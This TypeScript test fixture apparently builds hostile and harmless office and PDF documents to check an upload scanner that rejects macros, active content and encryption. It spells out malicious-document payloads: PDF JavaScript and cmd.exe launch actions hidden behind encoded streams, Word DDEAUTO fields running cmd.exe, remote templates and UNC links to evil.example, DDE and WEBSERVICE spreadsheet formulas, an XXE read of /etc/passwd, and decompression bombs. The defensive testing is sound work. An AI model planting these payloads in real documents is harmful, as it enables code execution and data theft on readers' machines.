import { deflateSync } from 'node:zlib';
import type { FileKind, FileProblem } from '../../src/api/contracts/file-kinds.ts';
import { HONEST, OFFICE, type ZipEntry, zip } from '../support/files.ts';

/** A document, and what an upload of it is refused with: null where it is stored. */
export interface Judged {
  readonly what: string;
  readonly kind: FileKind;
  readonly data: Buffer;
  readonly problem: FileProblem | null;
}

const both = (...parts: readonly (Buffer | string)[]) =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)));

/** A PDF with further objects, each with its number. */
export const pdfOf = (...objects: readonly (Buffer | string)[]) =>
  both(HONEST.pdf.subarray(0, 15), ...objects.flatMap((object) => [object, '\n']), HONEST.pdf.subarray(15));

interface Packing {
  readonly filter?: string;
  readonly pack?: (data: Buffer) => Buffer | string;
  readonly type?: string;
  readonly list?: string;
  readonly more?: string;
}

/** A stream that packs one object, number 9. */
export const packing = (
  object: Buffer | string,
  {
    filter = '/FlateDecode',
    pack = deflateSync,
    type = '/Type /ObjStm',
    list = '/N 1 /First 4',
    more = '',
  }: Packing = {},
) => {
  const packed = Buffer.from(pack(both('9 0 ', object)) as string, 'latin1');
  return both(
    `8 0 obj\n<< ${type} ${list} /Filter ${filter} ${more} /Length ${packed.length} >>\nstream\n`,
    packed,
    '\nendstream\nendobj',
  );
};

const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const hex = (data: Buffer) => `${data.toString('hex')}>`;
const hexed = (data: Buffer) => hex(deflateSync(data));

function ascii85(data: Buffer): string {
  const padded = Buffer.concat([data, Buffer.alloc((4 - (data.length % 4)) % 4)]);
  let text = '';
  for (let at = 0; at < padded.length; at += 4) {
    const letters: string[] = [];
    for (let rest = padded.readUInt32BE(at), digit = 0; digit < 5; digit++, rest = Math.floor(rest / 85))
      letters.unshift(String.fromCharCode(33 + (rest % 85)));
    text += letters.join('');
  }
  return `${text.slice(0, text.length - (padded.length - data.length))}~>`;
}

const ACTIONS: Readonly<Record<string, string>> = {
  'a script': SCRIPT,
  'a program': '<< /S /Launch /F (cmd.exe) >>',
  'a form that is sent': '<< /S /SubmitForm /F (https://evil.example/) >>',
  'data that is taken in': '<< /S /ImportData /F (a.fdf) >>',
  'a document in another one': '<< /S /GoToE /T << /R /C >> >>',
  'a document of another computer': '<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\a.pdf) /D [0 /Fit] >>',
  'a film': '<< /Subtype /Movie /Movie << /F (a.avi) >> >>',
  'rich media': '<< /Subtype /RichMedia /RichMediaContent 5 0 R >>',
  'a form of XML': '<< /Fields [] /XFA 5 0 R >>',
  'a file': '<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>',
  'a list of files': '<< /EmbeddedFiles 5 0 R >>',
  'an attachment': '<< /Subtype /FileAttachment /FS 5 0 R >>',
  'a link to a share': '<< /S /URI /URI (file://evil.example/share/a) >>',
  'a link that runs': '<< /S /URI /URI (javascript:alert\\(1\\)) >>',
  'a page asked for at once': '<< /OpenAction << /S /URI /URI (https://evil.example/) >> >>',
  'a page asked for with a page': '<< /AA << /O << /S /URI /URI (https://evil.example/) >> >> >>',
  'a page asked for after another one':
    '<< /OpenAction << /S /GoTo /D [0 /Fit] /Next [<< /S /URI /URI (https://evil.example/) >>] >> >>',
};

function* pdfs(): Generator<Judged> {
  const pdf = (what: string, data: Buffer, problem: FileProblem | null = 'file_macros'): Judged => ({
    what: `pdf ${what}`,
    kind: 'pdf',
    data,
    problem,
  });
  for (const [what, action] of Object.entries(ACTIONS)) {
    yield pdf(`with ${what}`, pdfOf(`5 0 obj ${action} endobj`));
    yield pdf(`that packs ${what}`, pdfOf(packing(action)));
  }
  const packings: Readonly<Record<string, Packing>> = {
    'in hexadecimal': { filter: '/ASCIIHexDecode', pack: hex },
    twice: { filter: '[/ASCIIHexDecode /FlateDecode]', pack: hexed },
    'twice by short names': { filter: '[/AHx/Fl]', pack: hexed },
    'twice by escaped names': { filter: '[/ASCII#48exDecode /#46lateDecode]', pack: hexed },
    'in ASCII 85': { filter: '[/A85 /Fl]', pack: (data) => ascii85(deflateSync(data)) },
    'by nothing': { filter: 'null', pack: (data) => data },
    'under an escaped type': { type: '/Type /Obj#53tm' },
    'without a type': { type: '' },
    'behind a comment': { more: '% << /Filter /LZWDecode >> stream\n' },
    'behind a string': { more: '/Note (1 0 obj << >> stream)' },
  };
  for (const [what, options] of Object.entries(packings))
    yield pdf(`that packs a script ${what}`, pdfOf(packing(SCRIPT, options)));
  const hidden: Readonly<Record<string, Buffer | string>> = {
    'in an escaped name': `5 0 obj << /S /J#61vaScript /J#53 (1) >> endobj`,
    'in another stream': both('5 0 obj << /Length 9 >> stream\n', packing(SCRIPT), '\nendstream endobj'),
    'in a comment': `% 5 0 obj ${SCRIPT} endobj`,
    'in a string': `4 0 obj (5 0 obj ${SCRIPT} endobj) endobj`,
    'in an object that another one replaces': `5 0 obj ${SCRIPT} endobj\n5 0 obj << >> endobj`,
    'in the trailer': `trailer << /Root << /OpenAction ${SCRIPT} >> >>`,
    'behind a comment between the numbers': `5%\n0%\nobj${SCRIPT}endobj`,
    'behind a bracket that closes nothing': `5 0 obj << /A ) >> ] /S /JavaScript >> endobj`,
  };
  for (const [what, object] of Object.entries(hidden)) yield pdf(`with a script ${what}`, pdfOf(object));
  const page = '<< /S /URI /URI (https://evil.example/) >>';
  yield pdf(
    'that asks for a page at once, by way of two objects',
    pdfOf('4 0 obj << /OpenAction 5 0 R >> endobj', '5 0 obj 6 0 R endobj', `6 0 obj ${page} endobj`),
  );
  yield pdf(
    'that asks for a page at once, in a version before the last',
    pdfOf('4 0 obj << /AA 5 0 R >> endobj', `5 0 obj << /O ${page} >> endobj`, '5 0 obj << >> endobj'),
  );
  yield pdf(
    'a stream of which is elsewhere',
    pdfOf('5 0 obj << /F (\\\\\\\\evil\\\\a) >> stream\n\nendstream endobj'),
  );

  const locked = pdfOf('trailer << /Root 1 0 R /Encrypt 5 0 R >>');
  yield pdf(
    'with a list that is not closed',
    pdfOf(`5 0 obj << /A [ 1 >> /S /JavaScript >> endobj`),
    'file_content',
  );
  yield pdf(
    'with an object that has no end',
    pdfOf(`5 0 obj << /A endobj /S /JavaScript >> endobj`),
    'file_content',
  );
  yield pdf(
    'with a stream that has no dictionary',
    pdfOf(`5 0 obj << /A { >> stream\n\nendstream endobj`),
    'file_content',
  );
  yield pdf('with a password', locked, 'file_encrypted');
  yield pdf(
    'with a password in its table',
    pdfOf('5 0 obj << /Type /XRef /Encrypt 6 0 R >> endobj'),
    'file_encrypted',
  );
  yield pdf(
    'that packs in an unknown way',
    pdfOf(packing('<< >>', { filter: '/LZWDecode' })),
    'file_content',
  );
  yield pdf(
    'that packs in a way said elsewhere',
    pdfOf(packing('<< >>', { filter: '5 0 R' })),
    'file_content',
  );
  yield pdf('that packs in two ways', pdfOf(packing(SCRIPT, { more: '/Filter /AHx' })), 'file_content');
  yield pdf(
    'that packs by a prediction',
    pdfOf(packing('<< >>', { more: '/DecodeParms << /Predictor 12 >>' })),
    'file_content',
  );
  yield pdf('that packs something broken', pdfOf(packing('<< >>', { pack: hex })), 'file_content');
  yield pdf(
    'that packs fewer objects than it says',
    pdfOf(packing('<< >>', { list: '/N 100 /First 4' })),
    'file_content',
  );
  yield pdf('that packs a bomb', pdfOf(packing(' '.repeat(40_000_000))), 'file_content');
  yield pdf(
    'that packs a bomb in a bomb',
    pdfOf(
      packing(Buffer.alloc(1), {
        filter: '[/Fl /Fl]',
        pack: () => deflateSync(deflateSync(Buffer.alloc(64_000_000))),
      }),
    ),
    'file_content',
  );
  yield pdf('whose lists lie in each other', pdfOf(`5 0 obj ${'['.repeat(100_000)}`), 'file_content');
  yield pdf('whose objects lie in each other', pdfOf('1 0 obj ('.repeat(100_000)), 'file_content');
  yield pdf('of very many objects', pdfOf('1 0 obj 1\n'.repeat(310_000)), 'file_content');

  const ordinary: Readonly<Record<string, Buffer>> = {
    'with links': pdfOf(
      '5 0 obj << /Subtype /Link /A << /S /URI /URI (https://example.org/?a=\\(1\\)) >> >> endobj',
      '6 0 obj << /Subtype /Link /A << /S /URI /URI (mailto:anna@example.org) >> >> endobj',
      '7 0 obj << /Subtype /Link /A << /S /GoToR /F (annex.pdf) /D [0 /Fit] >> >> endobj',
    ),
    'that opens at a place': pdfOf('5 0 obj << /OpenAction [3 0 R /XYZ null null 0] >> endobj'),
    'that opens at a page': pdfOf('5 0 obj << /OpenAction << /S /GoTo /D [3 0 R /Fit] >> >> endobj'),
    'with a form': pdfOf('5 0 obj << /AcroForm << /Fields [6 0 R] /NeedAppearances true >> >> endobj'),
    'with a signature': pdfOf(
      '5 0 obj << /Type /Sig /Filter /Adobe.PPKLite /ByteRange [0 1 2 3] /Contents <00> >> endobj',
    ),
    'with packed objects': pdfOf(packing('<< /Type /Page >>')),
    'with a title about scripts': pdfOf(
      '5 0 obj << /Title (HTML/JavaScript, /Launch of a product) >> endobj',
    ),
    'with a font called AA': pdfOf(
      '5 0 obj << /Font << /AA 6 0 R /JS 6 0 R >> >> endobj',
      '6 0 obj << /Type /Font >> endobj',
    ),
    'with a colour profile': pdfOf('5 0 obj << /N 3 /Length 4 >> stream\nabcd\nendstream endobj'),
    'with a picture that is packed otherwise': pdfOf(
      '5 0 obj << /Filter /LZWDecode /Length 4 >> stream\nabcd\nendstream endobj',
    ),
  };
  for (const [what, data] of Object.entries(ordinary)) yield pdf(what, data, null);
}

type OfficeKind = keyof typeof OFFICE;

/** A document with further parts; those of the honest one's names take their places. */
function documentOf(kind: OfficeKind, parts: Readonly<Record<string, Buffer | string>>): Buffer {
  const replaced = OFFICE[kind].map((entry) => ({ ...entry, data: parts[entry.name] ?? entry.data ?? '' }));
  const names = new Set(OFFICE[kind].map(({ name }) => name));
  const more: ZipEntry[] = Object.entries(parts).flatMap(([name, data]) =>
    names.has(name) ? [] : [{ name, data }],
  );
  return zip([...replaced, ...more]);
}

const RELATIONS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const relation = (type: string, target: string, mode = ' TargetMode="External"') =>
  `<Relationships><Relationship Id="r1" Type="${RELATIONS}/${type}" Target="${target}"${mode}/></Relationships>`;
const run = (content: string) => `<w:r>${content}</w:r>`;
const mark = (kind: string) => run(`<w:fldChar w:fldCharType="${kind}"/>`);
const says = (text: string) => run(`<w:instrText xml:space="preserve">${text}</w:instrText>`);
const field = (...content: readonly string[]) =>
  mark('begin') + content.join('') + mark('separate') + run('<w:t>1</w:t>') + mark('end');
const text = (...content: readonly string[]) =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="w"><w:body><w:p>${content.join('')}</w:p></w:body></w:document>`;

function* words(): Generator<Judged> {
  const docx = (
    what: string,
    parts: Readonly<Record<string, Buffer | string>>,
    problem: FileProblem | null = 'file_macros',
  ): Judged => ({ what: `docx ${what}`, kind: 'docx', data: documentOf('docx', parts), problem });
  const inText = (what: string, content: string, problem: FileProblem | null = 'file_macros') =>
    docx(what, { 'word/document.xml': text(content) }, problem);
  const program = 'c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"';

  yield inText('with a field that starts a program', field(says(` DDEAUTO ${program} `)));
  yield inText('with such a field in small letters', field(says(` dde ${program}`)));
  yield inText(
    'with such a field in many runs',
    field(says(' D'), says('DE'), run('<w:rPr/>'), says('AUTO '), says(program)),
  );
  yield inText(
    'with such a field in one element',
    `<w:fldSimple w:instr=" DDEAUTO ${program.replaceAll('"', '&quot;')}"/>`,
  );
  yield inText(
    'with such a field that is deleted',
    field(run(`<w:delInstrText>DDEAUTO ${program}</w:delInstrText>`)),
  );
  yield inText('with such a field written as text', field(run(`<w:t>DDEAUTO ${program}</w:t>`)));
  yield inText('with such a field that has no end', mark('begin') + says(`DDE ${program}`));
  yield inText('with such an instruction in no field', says('DDE') + says(`AUTO ${program}`));
  yield inText('with such a field written in numbers', field(says(`&#68;&#x44;EAUTO ${program}`)));
  yield inText(
    'with a field that is put together by another',
    field(field(says('QUOTE 68 68 69')), says(program)),
  );
  yield inText('with such a field in another one', field(says('IF 1 = 1 '), field(says(`DDE ${program}`))));
  yield inText('that takes in another document', field(says('INCLUDETEXT "\\\\\\\\evil.example\\\\a.docx"')));
  yield inText('with a linked object', field(says('LINK Excel.Sheet.8 "c:\\\\a.xls"')));
  yield inText(
    'with a picture of a share',
    field(says('INCLUDEPICTURE "\\\\\\\\evil.example\\\\a.png" \\d')),
  );
  yield inText('with a link to a share', field(says('HYPERLINK "\\\\\\\\evil.example\\\\a"')));
  yield docx('with such a field in its footer', { 'word/footer1.xml': text(field(says(`DDE ${program}`))) });
  yield docx('with such a field in a part of another name', {
    'word/media/picture.png': text(field(says(`DDE ${program}`))),
  });
  yield docx('with another document to be taken in', {
    'word/document.xml': '<w:document><w:altChunk r:id="r1"/></w:document>',
  });

  const leading: Readonly<Record<string, readonly [type: string, target: string, mode?: string]>> = {
    'its template on a share': ['attachedTemplate', 'file:///\\\\evil.example\\t.dotm'],
    'its template by the web': ['attachedTemplate', 'https://evil.example/t.dotm'],
    'a picture by the web': ['image', 'https://evil.example/a.png'],
    'a picture of a share': ['image', '\\\\evil.example\\a.png'],
    'a picture of a share, written otherwise': ['image', 'file:%2F%2Fevil.example/a.png'],
    'a picture of another computer': ['image', 'file://evil.example/a.png'],
    'an object': ['oleObject', 'https://evil.example/a.html!'],
    'an object of a handler': ['oleObject', 'mhtml:https://evil.example/a!x-usc:a'],
    'a frame': ['frame', 'https://evil.example/'],
    'another document': ['subDocument', 'a.docx'],
    'a page to be taken in': ['aFChunk', 'a.mht', ''],
    'a part that is elsewhere': ['styles', 'https://evil.example/styles.xml', ''],
    'a part of a share': ['styles', '//evil.example/styles.xml', ''],
    'a link to a share': ['hyperlink', 'file://evil.example/share'],
    'a link to a program’s handler': ['hyperlink', 'ms-msdt:/id PCWDiagnostic'],
    'a link that runs': ['hyperlink', 'java&#10;script:alert(1)'],
    'an escaped link that runs': ['hyperlink', 'java%2573cript:alert(1)'],
    'a project of macros under another name': ['vbaProject', 'styles.bin', ''],
    'a control': ['control', 'a.xml', ''],
  };
  for (const [what, [type, target, mode]] of Object.entries(leading))
    yield docx(`that names ${what}`, { 'word/_rels/document.xml.rels': relation(type, target, mode) });
  yield docx('that declares macros in numbers', {
    '[Content_Types].xml':
      '<Types><Override ContentType="application/vnd.ms-word.document.macro&#69;nabled.main+xml"/></Types>',
  });
  yield docx('with a picture drawn from elsewhere', {
    'word/document.xml': text(run('<v:imagedata src="https://evil.example/a.png"/>')),
  });
  yield docx('with an object of another program under another name', {
    'word/media/image1.png': both('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', Buffer.alloc(600)),
  });
  yield docx('with rich text under another name', { 'word/a.png': '{\\rtf1\\object}' });
  yield docx('with a document with macros in it', {
    'word/embeddings/a.xlsx': documentOf('xlsx', { 'xl/vbaProject.bin': 'a' }),
  });

  const DOCTYPE = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>';
  yield docx(
    'whose text has a document type',
    { 'word/document.xml': `${DOCTYPE}<w:document>&b;</w:document>` },
    'file_content',
  );
  yield docx(
    'a part of which has a document type',
    { 'customXml/item1.xml': `<?xml version="1.0"?>${DOCTYPE}<a/>` },
    'file_content',
  );
  yield docx(
    'whose text is in UTF-16',
    { 'word/document.xml': Buffer.from(`\ufeff${text(field(says('DDE a')))}`, 'utf16le') },
    'file_content',
  );
  yield docx(
    'whose text says that it is in UTF-7',
    { 'word/document.xml': '<?xml version="1.0" encoding="UTF-7"?><w:document/>' },
    'file_content',
  );
  yield docx(
    'whose text is broken',
    { 'word/document.xml': '<w:document><w:p></w:document>' },
    'file_content',
  );
  yield docx('whose text is no XML', { 'word/document.xml': 'Устав' }, 'file_content');
  yield docx(
    'with a document in a document in it',
    { 'word/embeddings/a.docx': documentOf('docx', { 'word/embeddings/b.docx': HONEST.docx }) },
    'file_content',
  );
  yield { what: 'docx with a password', kind: 'docx', data: encrypted(), problem: 'file_encrypted' };

  const ordinary: Readonly<Record<string, string>> = {
    'with fields':
      field(says(' PAGE ')) + field(says(' TOC \\o "1-3" \\h ')) + field(says(' MACROBUTTON NoMacro Имя ')),
    'with a sum of fields': field(says(' ='), field(says('PAGE')), says('-1 ')),
    'with links':
      field(says(' HYPERLINK "https://example.org/?a=1" \\o "Подсказка: откроется" ')) +
      field(says(' HYPERLINK \\l "part2" ')),
    'with a picture that a page had': field(
      says(' INCLUDEPICTURE "https://example.org/a.png" \\* MERGEFORMATINET '),
    ),
    'about DDE': run('<w:t>DDEAUTO cmd</w:t>') + run('<w:t>DDE — протокол обмена</w:t>'),
  };
  for (const [what, content] of Object.entries(ordinary)) yield inText(what, content, null);
  yield docx(
    'with a chart and its table',
    {
      'word/embeddings/Microsoft_Excel_Worksheet.xlsx': HONEST.xlsx,
      'word/fonts/font1.odttf': both('<\x00\x13\x02', Buffer.alloc(2000)),
    },
    null,
  );
  const links = [
    'mailto:anna@example.org',
    '#part',
    'annex.docx',
    'C:\\docs\\annex.docx',
    'javascript:void(0)',
    'htpp://example.org',
    'file:///',
    'example.org:8080/a',
  ];
  yield docx(
    'with links of all kinds',
    {
      'word/_rels/document.xml.rels': `<Relationships>${links.map((link, index) => relation('hyperlink', link).replace('r1', `r${index}`).slice(15, -16)).join('')}</Relationships>`,
    },
    null,
  );
}

/** What Word makes of a document with a password: a compound file with one place for it. */
function encrypted(): Buffer {
  const data = Buffer.alloc(4096);
  Buffer.from('d0cf11e0a1b11ae1', 'hex').copy(data);
  data.writeUInt16LE(9, 30);
  data.writeUInt32LE(2, 48);
  Buffer.from('EncryptedPackage', 'utf16le').copy(data, 3 * 512 + 128);
  return data;
}

function* sheets(): Generator<Judged> {
  const xlsx = (
    what: string,
    parts: Readonly<Record<string, Buffer | string>>,
    problem: FileProblem | null = 'file_macros',
  ): Judged => ({ what: `xlsx ${what}`, kind: 'xlsx', data: documentOf('xlsx', parts), problem });
  const cell = (formula: string) =>
    `<worksheet><sheetData><row><c><f>${formula}</f></c></row></sheetData></worksheet>`;
  yield xlsx('with a channel under another name', {
    'xl/a.xml': '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
  });
  yield xlsx('with a linked object', {
    'xl/externalLinks/externalLink1.xml': '<externalLink><oleLink progId="Word.Document"/></externalLink>',
  });
  yield xlsx('with a workbook of a share', {
    'xl/externalLinks/_rels/externalLink1.xml.rels': relation(
      'externalLinkPath',
      'file:///\\\\evil.example\\a.xlsx',
    ),
  });
  yield xlsx('with a workbook of the web', {
    'xl/externalLinks/_rels/externalLink1.xml.rels': relation(
      'externalLinkPath',
      'https://evil.example/a.xlsx',
    ),
  });
  yield xlsx('with a sheet of macros under another name', {
    'xl/_rels/workbook.xml.rels': relation('xlMacrosheet', 'worksheets/sheet1.xml', '').replace(
      RELATIONS,
      'http://schemas.microsoft.com/office/2006/relationships',
    ),
  });
  yield xlsx('with a name that is a macro', {
    'xl/workbook.xml':
      '<workbook><definedNames><definedName name="Auto_Open" xlm="1">a</definedName></definedNames></workbook>',
  });
  yield xlsx('with data asked for at once', {
    'xl/connections.xml': '<connections><connection refreshOnLoad="1"/></connections>',
  });
  yield xlsx('with data of a page', {
    'xl/connections.xml':
      '<connections><connection><webPr url="https://evil.example/"/></connection></connections>',
  });
  for (const formula of [
    "cmd|'/c calc'!A0",
    '1+DDE("cmd";"/c calc";"a")',
    '_xlfn.WEBSERVICE("https://evil.example/"&amp;A1)',
    'RTD("a",,"b")',
  ])
    yield xlsx(`with the formula ${formula}`, { 'xl/worksheets/sheet1.xml': cell(formula) });
  yield xlsx(
    'whose sheet has a document type',
    { 'xl/worksheets/sheet1.xml': `<!DOCTYPE a>${cell('1')}` },
    'file_content',
  );
  yield xlsx(
    'with formulas',
    { 'xl/worksheets/sheet1.xml': cell(`SUM('a|b'!A1:A2)&amp;"cmd|x"&amp;Added(1)`) },
    null,
  );
  yield xlsx(
    'with a workbook beside it',
    { 'xl/externalLinks/_rels/externalLink1.xml.rels': relation('externalLinkPath', '../Book2.xlsx') },
    null,
  );
}

function* openDocuments(): Generator<Judged> {
  const content = (inner: string) =>
    `<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="o" xmlns:xlink="x"><office:scripts/><office:body>${inner}</office:body></office:document-content>`;
  for (const kind of ['odt', 'ods'] as const) {
    const document = (
      what: string,
      inner: string,
      problem: FileProblem | null = 'file_macros',
      part = 'content.xml',
    ): Judged => ({
      what: `${kind} ${what}`,
      kind,
      data: documentOf(kind, { [part]: content(inner) }),
      problem,
    });
    const active: Readonly<Record<string, string>> = {
      'that listens for being opened':
        '<office:event-listeners><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:a"/></office:event-listeners>',
      'that listens under another prefix': '<s:event-listener/>',
      'with a script': '<office:script script:language="ooo:Basic"/>',
      'with a script in its text': '<text:script xlink:href="a.js"/>',
      'with a macro to be clicked': '<text:execute-macro text:name="a"/>',
      'with a link to a macro': '<text:a xlink:href="vnd.sun.star.script:a?language=Basic">a</text:a>',
      'with a link to a command': '<text:a xlink:href=".uno:Quit">a</text:a>',
      'with a link to a share': '<text:a xlink:href="file://evil.example/share">a</text:a>',
      'with a channel': '<text:dde-connection-decl office:dde-application="soffice"/>',
      'with a table from a channel': '<office:dde-source office:dde-application="cmd"/>',
      'with a formula that starts a program':
        '<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;a&quot;)"/>',
      'with a formula that asks the web':
        '<table:table-cell table:formula="of:=WEBSERVICE(&quot;https://evil.example/&quot;)"/>',
      'with a picture by the web': '<draw:image xlink:href="https://evil.example/a.png"/>',
      'with a picture of a share': '<draw:image xlink:href="file://evil.example/a.png"/>',
      'with a part of another document': '<text:section-source xlink:href="https://evil.example/a.odt"/>',
      'with cells of another document': '<table:cell-range-source xlink:href="https://evil.example/a.ods"/>',
      'with a frame': '<draw:floating-frame xlink:href="https://evil.example/"/>',
      'with an applet': '<draw:applet draw:code="a"/>',
      'with a plug-in': '<draw:plugin xlink:href="a" draw:mime-type="application/x-a"/>',
      'with an object of another program': '<draw:object-ole xlink:href="./Object 1"/>',
      'with a form that is sent': '<form:form xlink:href="https://evil.example/"/>',
    };
    for (const [what, inner] of Object.entries(active)) yield document(what, inner);
    yield document('whose styles listen', '<script:event-listener/>', 'file_macros', 'styles.xml');
    yield document('whose object listens', '<script:event-listener/>', 'file_macros', 'Object 1/content.xml');
    yield {
      what: `${kind} with a document type`,
      kind,
      data: documentOf(kind, { 'content.xml': `<!DOCTYPE a [<!ENTITY b "c">]>${'<a>&b;</a>'}` }),
      problem: 'file_content',
    };
    yield {
      what: `${kind} with a password`,
      kind,
      data: documentOf(kind, {
        'META-INF/manifest.xml':
          '<manifest:manifest><manifest:file-entry><manifest:encryption-data/></manifest:file-entry></manifest:manifest>',
        'content.xml': both('\x8f\x13\x00\xfe', Buffer.alloc(100, 7)),
      }),
      problem: 'file_encrypted',
    };
    yield document(
      'with links, pictures and formulas',
      '<text:a xlink:href="https://example.org/">a</text:a><text:a xlink:href="#a">a</text:a><draw:image xlink:href="Pictures/1.png"/><draw:image xlink:href="../a.png"/>' +
        '<draw:object xlink:href="./Object 1"/><form:form xlink:href=""/><table:table-cell table:formula="of:=SUM({1;2|3;4})"/>',
      null,
    );
    yield document(
      'made from a template',
      '<meta:template xlink:href="../../templates/letter.ott"/>',
      null,
      'meta.xml',
    );
  }
}

/** Documents that act, and those that do not, each made as a program or an attacker would. */
export const JUDGED: readonly Judged[] = [...pdfs(), ...words(), ...sheets(), ...openDocuments()];
